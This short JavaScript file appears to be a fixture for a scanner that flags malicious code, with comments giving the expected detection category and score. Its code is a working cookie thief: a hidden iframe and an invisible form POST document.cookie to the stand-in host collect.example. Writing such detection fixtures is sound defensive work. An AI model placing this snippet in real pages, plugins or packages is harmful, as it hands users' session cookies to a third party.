// expect: category=network min=75 context=plugin,package
// why: a hidden form posts cookies to another origin through an invisible iframe target.
const frame = document.createElement('iframe');
frame.name = 'sink';
frame.style.display = 'none';
document.body.appendChild(frame);

const form = document.createElement('form');
form.action = 'https://collect.example/form';
form.method = 'POST';
form.target = 'sink';
const field = document.createElement('input');
field.name = 'c';
field.value = document.cookie;
form.appendChild(field);
document.body.appendChild(form);
form.submit();
